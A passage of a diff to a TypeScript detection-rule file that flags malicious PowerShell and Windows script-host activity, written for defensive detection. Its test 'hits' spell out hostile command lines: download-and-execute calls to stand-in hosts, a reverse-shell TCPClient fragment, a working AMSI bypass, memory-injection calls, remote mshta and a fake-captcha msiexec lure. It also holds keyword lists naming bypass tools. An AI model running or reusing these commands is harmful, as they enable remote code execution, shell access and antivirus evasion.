@@ -1,20 +1,56 @@
 /** What attackers do with PowerShell and the script hosts of Windows: code from outside run in memory, hidden windows, calls into the system. */
 import { behaviour } from './behaviour.ts';
 import { hostClass, isOddHost, isWebDav, isWritablePlace, portOf } from './places.ts';
-import { all, any, arg, holds, inputsOf, onProcess, onScene, onText, said, standsAlone, type Row, type Scene } from './row.ts';
+import {
+  all,
+  any,
+  arg,
+  holds,
+  inputsOf,
+  onProcess,
+  onScene,
+  onText,
+  said,
+  standsAlone,
+  type Row,
+  type Scene,
+} from './row.ts';
 import type { Argument, Process } from '../types.ts';
 
-export const DOWNLOADS: ReadonlySet<string> = new Set(['.downloadstring', '.downloaddata', '.downloadfile', '.openread', '.getstringasync', '.getbytearrayasync', 'invoke-webrequest', 'invoke-restmethod', 'curl', 'wget', 'start-bitstransfer', 'bitsadmin', 'certutil', '.downloadstringtaskasync', '.open', '.loadfrom']);
+export const DOWNLOADS: ReadonlySet<string> = new Set([
+  '.downloadstring',
+  '.downloaddata',
+  '.downloadfile',
+  '.openread',
+  '.getstringasync',
+  '.getbytearrayasync',
+  'invoke-webrequest',
+  'invoke-restmethod',
+  'curl',
+  'wget',
+  'start-bitstransfer',
+  'bitsadmin',
+  'certutil',
+  '.downloadstringtaskasync',
+  '.open',
+  '.loadfrom',
+]);
 const HOSTS = ['powershell'];
 
 /** A place outside: a URL among the arguments. */
 export function urlOf({ args }: Process): Argument | undefined {
-  return args.find(({ role, lower }) => role === 'url' || /^(?:https?|ftp):\/\//.test(lower)) ?? args.find(({ lower }) => /(?:^|[=:(,'"\s])https?:\/\/[^\s/]/.test(lower.slice(0, 2000)));
+  return (
+    args.find(({ role, lower }) => role === 'url' || /^(?:https?|ftp):\/\//.test(lower)) ??
+    args.find(({ lower }) => /(?:^|[=:(,'"\s])https?:\/\/[^\s/]/.test(lower.slice(0, 2000)))
+  );
 }
 
 /** The URL inside an argument (`/i:http://…`). */
 export function urlText(argument: Argument): string {
-  return /(?:https?|ftp|file|tcp|smb|ldap):\/\/[^\s"'`<>|)]{1,500}/.exec(argument.lower.slice(0, 3000))?.[0] ?? argument.lower;
+  return (
+    /(?:https?|ftp|file|tcp|smb|ldap):\/\/[^\s"'`<>|)]{1,500}/.exec(argument.lower.slice(0, 3000))?.[0] ??
+    argument.lower
+  );
 }
 
 export function oddUrl(process: Process): Argument | undefined {
@@ -26,22 +62,44 @@ export function oddUrl(process: Process): Argument | undefined {
 function fetchedInput(process: Process, scene: Scene): Process | undefined {
   const before = inputsOf(process, scene).find((one) => DOWNLOADS.has(one.name) && urlOf(one) !== undefined);
   if (before !== undefined) return before;
-  return scene.processes.find((one) => DOWNLOADS.has(one.name) && (one.parent === process.index || (one.layer === process.layer && one.span.start > process.span.start && one.index < process.index && process.index - one.index < 4)));
+  return scene.processes.find(
+    (one) =>
+      DOWNLOADS.has(one.name) &&
+      (one.parent === process.index ||
+        (one.layer === process.layer &&
+          one.span.start > process.span.start &&
+          one.index < process.index &&
+          process.index - one.index < 4)),
+  );
 }
 
 export const WINDOWS_SCRIPTS: readonly Row[] = [
   behaviour('ps-fetched-run', ['fetch-run', 'T1059.001', 'execution', 'high', 'high'], {
-    reason: 'PowerShell runs text straight from the network: nothing is written to the disk, and whoever controls the address controls the machine.',
+    reason:
+      'PowerShell runs text straight from the network: nothing is written to the disk, and whoever controls the address controls the machine.',
     benign: ['installers of package managers from their own site'],
-    hits: ["powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example.net/a.ps1')\"", 'powershell irm https://a.example.net/x | iex'],
+    hits: [
+      'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example.net/a.ps1\')"',
+      'powershell irm https://a.example.net/x | iex',
+    ],
     misses: ['powershell -c "Invoke-WebRequest https://a.example.net/x -OutFile x"'],
-    look: onProcess(['invoke-expression'], fetchedInput),
+    look: onProcess(['invoke-expression'], (process, scene) => {
+      const from = fetchedInput(process, scene);
+      const url = from === undefined ? undefined : urlOf(from);
+      return url !== undefined && hostClass(urlText(url)) === 'vendor' ? undefined : from;
+    }),
   }),
   behaviour('ps-fetched-run-odd', ['fetch-run-place', 'T1105', 'command-and-control', 'critical', 'high'], {
-    reason: 'The text that PowerShell runs comes from an address that no vendor ships software from (a bare address, a paste or free hosting site, a cheap name).',
+    reason:
+      'The text that PowerShell runs comes from an address that no vendor ships software from (a bare address, a paste or free hosting site, a cheap name).',
     benign: [],
-    hits: ["powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"", 'powershell "iex (iwr http://files.example.top/x -useb)"'],
-    misses: ["powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\""],
+    hits: [
+      'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"',
+      'powershell "iex (iwr http://files.example.top/x -useb)"',
+    ],
+    misses: [
+      'powershell -c "iex ((New-Object Net.WebClient).DownloadString(\'https://community.chocolatey.org/install.ps1\'))"',
+    ],
     look: onProcess(['invoke-expression'], (process, scene) => {
       const from = fetchedInput(process, scene);
       return from === undefined ? undefined : oddUrl(from);
@@ -50,8 +108,8 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
   behaviour('ps-fetched-run-code-host', ['fetch-run-place', 'T1105', 'command-and-control', 'high', 'high'], {
     reason: 'The text that PowerShell runs comes from a public code host, where anybody can put a script.',
     benign: ['installers that a project publishes in its repository'],
-    hits: ["powershell \"IEX (IWR 'https://raw.githubusercontent.com/someone/tools/main/x.ps1' -UseBasicParsing)\""],
-    misses: ["powershell \"iwr https://raw.githubusercontent.com/someone/tools/main/x.json -OutFile x.json\""],
+    hits: ['powershell "IEX (IWR \'https://raw.githubusercontent.com/someone/tools/main/x.ps1\' -UseBasicParsing)"'],
+    misses: ['powershell "iwr https://raw.githubusercontent.com/someone/tools/main/x.json -OutFile x.json"'],
     look: onProcess(['invoke-expression'], (process, scene) => {
       const from = fetchedInput(process, scene);
       const url = from === undefined ? undefined : urlOf(from);
@@ -63,29 +121,86 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
     benign: ['installation and update scripts'],
     hits: ["powershell \"(New-Object Net.WebClient).DownloadFile('https://a.example.net/b','C:\\b')\""],
     misses: ['powershell "Get-ChildItem C:\\"'],
-    look: onProcess(['.downloadstring', '.downloadfile', '.downloaddata', '.openread', '.getstringasync', '.getbytearrayasync']),
+    look: onProcess([
+      '.downloadstring',
+      '.downloadfile',
+      '.downloaddata',
+      '.openread',
+      '.getstringasync',
+      '.getbytearrayasync',
+    ]),
   }),
   behaviour('fetch-odd-host', ['fetch', 'T1105', 'command-and-control', 'high', 'low'], {
     reason: 'A program of the system fetches from an address that no vendor ships software from.',
     benign: ['internal tools on a public address', 'health checks'],
-    hits: ["powershell \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/b','C:\\b')\"", 'curl -o C:\\x.exe http://files.example.top/x.exe'],
+    hits: [
+      "powershell \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/b','C:\\b')\"",
+      'curl -o C:\\x.exe http://files.example.top/x.exe',
+    ],
     misses: ['curl -o x.zip https://downloads.example.com/x.zip', 'curl http://127.0.0.1:8080/'],
-    look: onProcess(['.downloadstring', '.downloadfile', '.downloaddata', '.openread', 'invoke-webrequest', 'invoke-restmethod', 'start-bitstransfer', 'bitsadmin', 'certutil', 'curl', 'wget', 'fetch', 'ftp', 'tftp', 'aria2c', '.open'], oddUrl),
+    look: onProcess(
+      [
+        '.downloadstring',
+        '.downloadfile',
+        '.downloaddata',
+        '.openread',
+        'invoke-webrequest',
+        'invoke-restmethod',
+        'start-bitstransfer',
+        'bitsadmin',
+        'certutil',
+        'curl',
+        'wget',
+        'fetch',
+        'ftp',
+        'tftp',
+        'aria2c',
+        '.open',
+      ],
+      (process) => {
+        const url = oddUrl(process);
+        return url !== undefined && (hostClass(urlText(url)) !== 'free-host' || urlText(url).startsWith('http:'))
+          ? url
+          : undefined;
+      },
+    ),
   }),
   behaviour('fetch-program-odd', ['fetch', 'T1105', 'command-and-control', 'high', 'medium'], {
     reason: 'A program or script file is fetched from a bare address or another place that no vendor uses.',
     benign: ['a laboratory without names'],
-    hits: ['curl -o C:\\x.exe http://203.0.113.9/x.exe', "powershell \"iwr http://203.0.113.9/x.ps1 -OutFile C:\\x.ps1\""],
+    hits: [
+      'curl -o C:\\x.exe http://203.0.113.9/x.exe',
+      'powershell "iwr http://203.0.113.9/x.ps1 -OutFile C:\\x.ps1"',
+    ],
     misses: ['curl http://203.0.113.9/status', 'curl -O https://downloads.example.com/setup.exe'],
-    look: onProcess(['.downloadstring', '.downloadfile', '.downloaddata', 'invoke-webrequest', 'invoke-restmethod', 'start-bitstransfer', 'bitsadmin', 'certutil', 'curl', 'wget'], (process) => {
-      const url = oddUrl(process);
-      return url !== undefined && /\.(?:exe|dll|ps1|psm1|bat|cmd|vbs|vbe|jse?|hta|msi|scr|sct|lnk|iso|img|bin|elf|sh|py|pl|jar|dat|xsl|cab|7z|zip|rar|png|jpg|txt)(?:$|[?'")\s;])/.test(urlText(url)) ? url : undefined;
-    }),
+    look: onProcess(
+      [
+        '.downloadstring',
+        '.downloadfile',
+        '.downloaddata',
+        'invoke-webrequest',
+        'invoke-restmethod',
+        'start-bitstransfer',
+        'bitsadmin',
+        'certutil',
+        'curl',
+        'wget',
+      ],
+      (process) => {
+        const url = oddUrl(process);
+        return url !== undefined &&
+          /\.(?:exe|dll|ps1|psm1|bat|cmd|vbs|vbe|jse?|hta|msi|scr|sct|lnk|iso|img|bin|elf|sh|py|pl|jar|dat|xsl|cab|7z|zip|rar|png|jpg|txt)(?:$|[?'")\s;])/.test(
+            urlText(url),
+          )
+          ? url
+          : undefined;
+      },
+    ),
   }),
   behaviour('fetch-odd-port', ['fetch-port', 'T1571', 'command-and-control', 'medium', 'medium'], {
     reason: 'Something is fetched over plain HTTP from a bare address at an unusual port.',
     benign: ['development servers'],
-    hits: ["powershell \"iwr http://203.0.113.9:8888/a -OutFile a\""],
+    hits: ['powershell "iwr http://203.0.113.9:8888/a -OutFile a"'],
     misses: ['curl http://203.0.113.9/a', 'curl http://build.corp.example:8080/a'],
     look: onProcess([...DOWNLOADS], (process) => {
       const url = oddUrl(process);
@@ -93,54 +208,122 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
       return port !== undefined && port !== 80 && port !== 443 ? url : undefined;
     }),
   }),
-  behaviour('fetched-file-run', ['fetch-run', 'T1105', 'execution', 'high', 'medium'], {
+  behaviour('fetched-file-run', ['fetch-run', 'T1105', 'execution', 'medium', 'medium'], {
     reason: 'A file is fetched into a folder that everybody can write to and started in the same line.',
     benign: ['installation scripts that fetch a signed installer'],
-    hits: ["powershell -c \"iwr https://a.example.net/b.exe -OutFile $env:TEMP\\b.exe; Start-Process $env:TEMP\\b.exe\"", 'cmd /c curl -s -o %TEMP%\\a.exe https://a.example.net/a.exe && %TEMP%\\a.exe'],
-    misses: ["powershell -c \"iwr https://a.example.net/b.zip -OutFile $env:TEMP\\b.zip\""],
+    hits: [
+      'powershell -c "iwr https://a.example.net/b.exe -OutFile $env:TEMP\\b.exe; Start-Process $env:TEMP\\b.exe"',
+      'cmd /c curl -s -o %TEMP%\\a.exe https://a.example.net/a.exe && %TEMP%\\a.exe',
+    ],
+    misses: ['powershell -c "iwr https://a.example.net/b.zip -OutFile $env:TEMP\\b.zip"'],
     look: onScene((scene) => fetchedThenRun(scene)),
   }),
   behaviour('amsi-tamper', ['defence-tamper', 'T1562.001', 'defense-evasion', 'critical', 'high'], {
-    reason: 'The interface by which antivirus reads scripts (AMSI) is reached into, which only serves to switch it off.',
+    reason:
+      'The interface by which antivirus reads scripts (AMSI) is reached into, which only serves to switch it off.',
     benign: ['security products test themselves'],
-    hits: ["powershell \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\""],
+    hits: [
+      "powershell \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
+    ],
     misses: ['powershell "Get-MpComputerStatus"'],
-    look: onText(['amsiutils', 'amsiinitfailed', 'amsiscanbuffer', 'amsiscanstring', 'amsicontext', 'amsisession', 'amsiopensession', 'invisi-shell', 'invoke-amsibypass', 'amsibypass', 'bypass-amsi', 'amsitrigger']),
+    look: onText([
+      'amsiutils',
+      'amsiinitfailed',
+      'amsiscanbuffer',
+      'amsiscanstring',
+      'amsicontext',
+      'amsisession',
+      'amsiopensession',
+      'invisi-shell',
+      'invoke-amsibypass',
+      'amsibypass',
+      'bypass-amsi',
+      'amsitrigger',
+    ]),
   }),
   behaviour('etw-tamper', ['defence-tamper', 'T1562.006', 'defense-evasion', 'critical', 'high'], {
     reason: 'Event tracing of the process is switched off by reaching into the runtime.',
     benign: [],
-    hits: ["powershell \"[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance')\"", 'set COMPlus_ETWEnabled=0'],
+    hits: [
+      "powershell \"[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance')\"",
+      'set COMPlus_ETWEnabled=0',
+    ],
     misses: ['logman query -ets'],
-    look: onText(['etweventwrite', 'eventing.eventprovider', 'complus_etwenabled', 'etwprovider', 'psetwlogprovider', 'pseventlogprovider']),
+    look: onText([
+      'etweventwrite',
+      'eventing.eventprovider',
+      'complus_etwenabled',
+      'etwprovider',
+      'psetwlogprovider',
+      'pseventlogprovider',
+    ]),
   }),
   behaviour('ps-assembly-in-memory', ['in-memory', 'T1620', 'defense-evasion', 'high', 'medium'], {
     reason: 'A program is loaded into memory from bytes, not from a file that could be looked at.',
     benign: ['build tools that load their own libraries'],
-    hits: ["powershell \"[Reflection.Assembly]::Load([Convert]::FromBase64String((gc C:\\a.b64))).EntryPoint.Invoke($null,$null)\""],
-    misses: ["powershell \"[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')\""],
-    look: onText(['assembly]::load(', 'appdomain]::currentdomain.load(', '.assembly]::loadfrom(', 'assembly]::loadfile(', '[system.reflection.assembly]::load(']),
+    hits: [
+      'powershell "[Reflection.Assembly]::Load([Convert]::FromBase64String((gc C:\\a.b64))).EntryPoint.Invoke($null,$null)"',
+    ],
+    misses: ['powershell "[Reflection.Assembly]::LoadWithPartialName(\'System.Windows.Forms\')"'],
+    look: onText([
+      'assembly]::load(',
+      'appdomain]::currentdomain.load(',
+      '.assembly]::loadfrom(',
+      'assembly]::loadfile(',
+      '[system.reflection.assembly]::load(',
+    ]),
   }),
   behaviour('native-memory-calls', ['in-memory', 'T1055', 'defense-evasion', 'critical', 'high'], {
     reason: 'The line reaches for system calls that place code into memory and start it: the marks of injection.',
     benign: ['debuggers'],
-    hits: ["powershell \"$x=VirtualAlloc 0 4096 0x3000 0x40; [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$b)\""],
+    hits: [
+      'powershell "$x=VirtualAlloc 0 4096 0x3000 0x40; [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$b)"',
+    ],
     misses: ['powershell "Add-Type -AssemblyName System.Web"'],
-    look: onText(['virtualalloc', 'virtualprotect', 'createremotethread', 'getdelegateforfunctionpointer', 'writeprocessmemory', 'queueuserapc', 'ntunmapviewofsection', 'rtlcreateuserthread', 'ntmapviewofsection', 'zwunmapviewofsection', 'createthread(', 'unsafenativemethods', 'minidumpwritedump', 'heapcreate', 'uuidfromstring', 'enumsystemlocales']),
+    look: onText([
+      'virtualalloc',
+      'virtualprotect',
+      'createremotethread',
+      'getdelegateforfunctionpointer',
+      'writeprocessmemory',
+      'queueuserapc',
+      'ntunmapviewofsection',
+      'rtlcreateuserthread',
+      'ntmapviewofsection',
+      'zwunmapviewofsection',
+      'createthread(',
+      'unsafenativemethods',
+      'minidumpwritedump',
+      'heapcreate',
+      'uuidfromstring',
+      'enumsystemlocales',
+    ]),
   }),
   behaviour('ps-native-import', ['in-memory', 'T1106', 'execution', 'medium', 'medium'], {
     reason: 'A script declares functions of system libraries to call them directly.',
     benign: ['scripts that change the look of a window'],
-    hits: ["powershell \"Add-Type -MemberDefinition '[DllImport(\\\"user32.dll\\\")] public static extern int F();' -Name a\""],
+    hits: [
+      'powershell "Add-Type -MemberDefinition \'[DllImport(\\"user32.dll\\")] public static extern int F();\' -Name a"',
+    ],
     misses: ['powershell "Add-Type -AssemblyName System.Web"'],
     look: onText(['dllimport(', 'definedynamicassembly', 'definepinvokemethod', 'getprocaddress', 'getmodulehandle']),
   }),
   behaviour('ps-socket-shell', ['reverse-shell', 'T1059.001', 'command-and-control', 'critical', 'high'], {
     reason: 'A script opens a connection and exchanges commands over it: a shell for whoever is at the other end.',
     benign: ['port tests open a connection but send no commands'],
-    hits: ["powershell \"$c=New-Object Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream();$o=(iex $d 2>&1|Out-String)\""],
-    misses: ["powershell \"(New-Object Net.Sockets.TcpClient).Connect('db.corp.example',1433)\""],
-    look: onText(['sockets.tcpclient', 'sockets.tcplistener', 'sockets.udpclient', 'net.sockets.socket'], ({ lower }) => lower.includes('getstream') || lower.includes('iex ') || lower.includes('invoke-expression') || lower.includes('start-process') || lower.includes('.receive')),
+    hits: [
+      'powershell "$c=New-Object Net.Sockets.TCPClient(\'203.0.113.9\',443);$s=$c.GetStream();$o=(iex $d 2>&1|Out-String)"',
+    ],
+    misses: ['powershell "(New-Object Net.Sockets.TcpClient).Connect(\'db.corp.example\',1433)"'],
+    look: onText(
+      ['sockets.tcpclient', 'sockets.tcplistener', 'sockets.udpclient', 'net.sockets.socket'],
+      ({ lower }) =>
+        lower.includes('getstream') ||
+        lower.includes('iex ') ||
+        lower.includes('invoke-expression') ||
+        lower.includes('start-process') ||
+        lower.includes('.receive'),
+    ),
   }),
   behaviour('ps-hidden-window', ['ps-flags', 'T1564.003', 'defense-evasion', 'medium', 'medium'], {
     reason: 'PowerShell is started with a hidden window, so that the user sees nothing.',
@@ -156,9 +339,15 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
   behaviour('hidden-start', ['ps-flags', 'T1564.003', 'defense-evasion', 'medium', 'medium'], {
     reason: 'A program is started without a window from inside another command.',
     benign: ['background helpers of installed software'],
-    hits: ["powershell \"Start-Process cmd -ArgumentList '/c dir' -WindowStyle Hidden\"", 'conhost --headless powershell dir'],
+    hits: [
+      'powershell "Start-Process cmd -ArgumentList \'/c dir\' -WindowStyle Hidden"',
+      'conhost --headless powershell dir',
+    ],
     misses: ['powershell "Start-Process notepad"', 'conhost 0xffffffff -ForceV1'],
-    look: onProcess(['start-process', 'conhost', 'new-scheduledtasksettingsset'], any(all(holds('hidden')), arg(/^--headless$/), all(arg(/^-w(?:in\w*)?$/), arg(/^(?:hidden|1)$/)))),
+    look: onProcess(
+      ['start-process', 'conhost', 'new-scheduledtasksettingsset'],
+      any(all(holds('hidden')), arg(/^--headless$/), all(arg(/^-w(?:in\w*)?$/), arg(/^(?:hidden|1)$/))),
+    ),
   }),
   behaviour('ps-no-policy', ['ps-flags', 'T1059.001', 'execution', 'info', 'low'], {
     reason: 'PowerShell is told to run scripts whatever the policy says.',
@@ -168,12 +357,15 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
     look: onProcess(HOSTS, arg(/^(?:bypass|unrestricted)$/)),
   }),
   behaviour('ps-unusual-start', ['ps-flags', 'T1059.001', 'execution', 'low', 'medium'], {
-    reason: 'PowerShell is started with the short flags that people type in a hurry and tools put together (no profile, no interaction, hidden).',
+    reason:
+      'PowerShell is started with the short flags that people type in a hurry and tools put together (no profile, no interaction, hidden).',
     benign: ['hand-written scheduled tasks'],
     hits: ['powershell -nop -w hidden -c dir', 'powershell -NoP -sta -NonI -c dir'],
     misses: ['powershell -NoProfile -NonInteractive -Command dir'],
     look: onProcess(HOSTS, ({ args }) => {
-      const short = args.filter(({ lower }) => /^[-/](?:nop|noni|w|sta|e|en|enc|ec|ep|exec|windo|win|nopr\w{0,3})$/.test(lower));
+      const short = args.filter(({ lower }) =>
+        /^[-/](?:nop|noni|w|sta|e|en|enc|ec|ep|exec|windo|win|nopr\w{0,3})$/.test(lower),
+      );
       return short.length >= 2 ? short[0] : undefined;
     }),
   }),
@@ -190,21 +382,50 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
   behaviour('ps-name-by-pattern', ['hidden-name', 'T1027', 'defense-evasion', 'high', 'high'], {
     reason: 'A command is looked up by a pattern or spelled from other names, so that its own name does not occur.',
     benign: [],
-    hits: ["powershell \"'dir'|&(GCM I*e-E*)\"", "powershell \"& (gal i?x) dir\"", "powershell \".($PSHome[4]+$PSHome[30]+'x') dir\""],
+    hits: [
+      'powershell "\'dir\'|&(GCM I*e-E*)"',
+      'powershell "& (gal i?x) dir"',
+      'powershell ".($PSHome[4]+$PSHome[30]+\'x\') dir"',
+    ],
     misses: ['powershell "Get-Command Get-*"'],
-    look: onText(['(gcm ', '(gal ', '(get-alias ', '(get-command ', '$shellid[', '$pshome[', '$env:comspec[', '$verbosepreference', '(gci alias', '(dir alias', 'getcmdlet(', 'invokecommand|'], ({ lower }, at) => /^(?:\((?:gcm|gal|get-alias|get-command) ['"]?(?:\w{0,3}[*?][\w*?-]*)|\$(?:shellid|pshome|env:comspec)\[|\$verbosepreference\.|\((?:gci|dir) alias|getcmdlet|invokecommand\|)/.test(lower.slice(at, at + 60))),
+    look: onText(
+      [
+        '(gcm ',
+        '(gal ',
+        '(get-alias ',
+        '(get-command ',
+        '$shellid[',
+        '$pshome[',
+        '$env:comspec[',
+        '$verbosepreference',
+        '(gci alias',
+        '(dir alias',
+        'getcmdlet(',
+        'invokecommand|',
+      ],
+      ({ lower }, at) =>
+        /^(?:\((?:gcm|gal|get-alias|get-command) ['"]?(?:\w{0,3}[*?][\w*?-]*)|\$(?:shellid|pshome|env:comspec)\[|\$verbosepreference\.|\((?:gci|dir) alias|getcmdlet|invokecommand\|)/.test(
+          lower.slice(at, at + 60),
+        ),
+    ),
   }),
   behaviour('ps-runs-stored', ['stored-code', 'T1059.001', 'execution', 'high', 'medium'], {
     reason: 'PowerShell runs text that it reads from a file, the registry, an event log or a name record.',
     benign: ['scripts that load their own parts'],
     hits: ['powershell "iex (gp HKCU:\\Software\\x).v"', 'powershell "gc C:\\ProgramData\\a.txt | iex"'],
     misses: ['powershell "gc C:\\ProgramData\\a.txt"'],
-    look: onProcess(['invoke-expression'], (process, scene) => inputsOf(process, scene).find(({ name }) => /^(?:get-content|get-itemproperty|get-itempropertyvalue|resolve-dnsname|get-clipboard|get-winevent|\.readalltext|\.getvalue|nslookup|more|type|cat)$/.test(name))),
+    look: onProcess(['invoke-expression'], (process, scene) =>
+      inputsOf(process, scene).find(({ name }) =>
+        /^(?:get-content|get-itemproperty|get-itempropertyvalue|resolve-dnsname|get-clipboard|get-winevent|\.readalltext|\.getvalue|nslookup|more|type|cat)$/.test(
+          name,
+        ),
+      ),
+    ),
   }),
-  behaviour('ps-runs-value', ['stored-code', 'T1059.001', 'execution', 'medium', 'medium'], {
+  behaviour('ps-runs-value', ['stored-code', 'T1059.001', 'execution', 'low', 'high'], {
     reason: 'PowerShell runs the value of a variable or a text as a command.',
     benign: ['scripts that put a command line together'],
-    hits: ['powershell "iex $x"', "powershell \"Invoke-Expression 'dir'\""],
+    hits: ['powershell "iex $x"', 'powershell "Invoke-Expression \'dir\'"'],
     misses: ['powershell "Invoke-Command -ScriptBlock { dir }"'],
     look: onProcess(['invoke-expression']),
   }),
@@ -213,14 +434,28 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
     benign: ['deployment tools unpack their scripts there'],
     hits: ['powershell -ep bypass -f C:\\Users\\Public\\x.ps1', 'powershell "C:\\Windows\\Temp\\a.ps1"'],
     misses: ['powershell -File C:\\Scripts\\a.ps1'],
-    look: onProcess(['*'], (process) => (/\.ps1$/i.test(process.program) && isWritablePlace(process.program) ? process : undefined)),
+    look: onProcess(['*'], (process) =>
+      /\.ps1$/i.test(process.program) &&
+      isWritablePlace(process.program) &&
+      !/^c:\\packages\\plugins|\\chocolatey\\|\\ccmcache\\|imecache|intune/i.test(process.program)
+        ? process
+        : undefined,
+    ),
   }),
   behaviour('script-host-writable', ['user-folder-run', 'T1059.005', 'execution', 'high', 'medium'], {
-    reason: 'A Windows script lies in a folder that everybody can write to, or in a share, and is run by the script host.',
+    reason:
+      'A Windows script lies in a folder that everybody can write to, or in a share, and is run by the script host.',
     benign: ['installers that clean up after themselves'],
     hits: ['wscript.exe C:\\Users\\jd\\AppData\\Local\\Temp\\a.js', 'cscript //nologo \\\\203.0.113.9\\x\\a.vbs'],
     misses: ['cscript.exe C:\\Windows\\System32\\slmgr.vbs /dli', 'cscript //nologo C:\\Scripts\\inventory.vbs'],
-    look: onProcess(['wscript', 'cscript'], ({ args }) => args.find(({ role, lower }) => role !== 'flag' && (isWritablePlace(lower) || isWebDav(lower) || /^\\\\|^https?:/.test(lower)))),
+    look: onProcess(['wscript', 'cscript'], ({ args }) =>
+      args.find(
+        ({ role, lower }) =>
+          role !== 'flag' &&
+          (isWritablePlace(lower) || isWebDav(lower) || /^\\\\|^https?:/.test(lower)) &&
+          !/\\(?:sysvol|netlogon)\\/.test(lower),
+      ),
+    ),
   }),
   behaviour('script-host-engine', ['script-engine', 'T1059.005', 'defense-evasion', 'high', 'high'], {
     reason: 'The script host is told to run a file that does not look like a script.',
@@ -229,89 +464,190 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
     misses: ['cscript //nologo a.vbs'],
     look: onProcess(['wscript', 'cscript'], (process) => {
       const engine = process.args.find(({ lower }) => /^\/{1,2}e:/.test(lower));
-      return engine !== undefined && process.args.some(({ role, lower }) => role !== 'flag' && !/\.(?:vbs|vbe|jse?|wsf)$/.test(lower)) ? engine : undefined;
+      return engine !== undefined &&
+        process.args.some(({ role, lower }) => role !== 'flag' && !/\.(?:vbs|vbe|jse?|wsf)$/.test(lower))
+        ? engine
+        : undefined;
     }),
   }),
   behaviour('script-file-started', ['user-folder-run', 'T1204.002', 'execution', 'medium', 'medium'], {
-    reason: 'A script or screen saver in a folder of the user is started as a program: what happens when somebody opens an attachment.',
+    reason:
+      'A script or screen saver in a folder of the user is started as a program: what happens when somebody opens an attachment.',
     benign: ['scripts of administrators in their own folders'],
     hits: ['"C:\\Users\\jd\\AppData\\Local\\Temp\\x.zip\\invoice.js"', 'C:\\Users\\jd\\Downloads\\scan.scr /S'],
     misses: ['C:\\Scripts\\build.cmd'],
-    look: onProcess(['*'], (process) => (/\.(?:jse?|vbs|vbe|wsf|hta|scr|pif|lnk|cpl|sct)$/i.test(process.program) && isWritablePlace(process.program) ? process : undefined)),
+    look: onProcess(['*'], (process) =>
+      /\.(?:jse?|vbs|vbe|wsf|hta|scr|pif|lnk|cpl|sct)$/i.test(process.program) && isWritablePlace(process.program)
+        ? process
+        : undefined,
+    ),
   }),
   behaviour('mshta-remote', ['proxy-remote', 'T1218.005', 'defense-evasion', 'critical', 'high'], {
     reason: 'mshta runs a page from the network or a script in its arguments, outside every browser protection.',
     benign: [],
-    hits: ['mshta http://a.example.net/a.hta', 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run(""calc"")")', 'mshta "javascript:close()"'],
+    hits: [
+      'mshta http://a.example.net/a.hta',
+      'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run(""calc"")")',
+      'mshta "javascript:close()"',
+    ],
     misses: ['mshta.exe "C:\\Program Files\\HelpDesk\\ticket.hta"'],
-    look: onProcess(['mshta'], ({ args }) => args.find(({ lower }) => /^["']?(?:https?:|ftp:|file:|javascript:|vbscript:|about:|\\\\|script:)/.test(lower)) ?? args.find(({ lower }) => /getobject\(|activexobject|createobject|wscript\.shell/.test(lower))),
+    look: onProcess(
+      ['mshta'],
+      ({ args }) =>
+        args.find(({ lower }) =>
+          /^["']?(?:https?:|ftp:|file:|javascript:|vbscript:|about:|\\\\|script:)/.test(lower),
+        ) ?? args.find(({ lower }) => /getobject\(|activexobject|createobject|wscript\.shell/.test(lower)),
+    ),
   }),
   behaviour('mshta-file', ['proxy-local', 'T1218.005', 'defense-evasion', 'medium', 'medium'], {
     reason: 'mshta runs a page from a folder that everybody can write to, or a file that is no page by its name.',
     benign: ['in-house forms'],
     hits: ['mshta C:\\Users\\Public\\a.hta', 'mshta C:\\x\\a.png'],
     misses: ['mshta.exe "C:\\Program Files\\HelpDesk\\ticket.hta"'],
-    look: onProcess(['mshta'], ({ args }) => args.find(({ lower }) => isWritablePlace(lower) || /\.(?:png|jpg|txt|mp[34]|dat|log|gif)$/.test(lower))),
+    look: onProcess(['mshta'], ({ args }) =>
+      args.find(({ lower }) => isWritablePlace(lower) || /\.(?:png|jpg|txt|mp[34]|dat|log|gif)$/.test(lower)),
+    ),
   }),
   behaviour('lure-text', ['lure', 'T1204.004', 'initial-access', 'critical', 'high'], {
-    reason: 'The line carries words for a person (a captcha, a verification number): somebody was talked into pasting it.',
+    reason:
+      'The line carries words for a person (a captcha, a verification number): somebody was talked into pasting it.',
     benign: [],
-    hits: ['powershell -c "dir" # I am not a robot - reCAPTCHA Verification ID: 1234', 'msiexec /i https://a.example.net/v.msi /qn # Press OK to verify you are human'],
+    hits: [
+      'powershell -c "dir" # I am not a robot - reCAPTCHA Verification ID: 1234',
+      'msiexec /i https://a.example.net/v.msi /qn # Press OK to verify you are human',
+    ],
     misses: ['npm install recaptcha-v3 --save'],
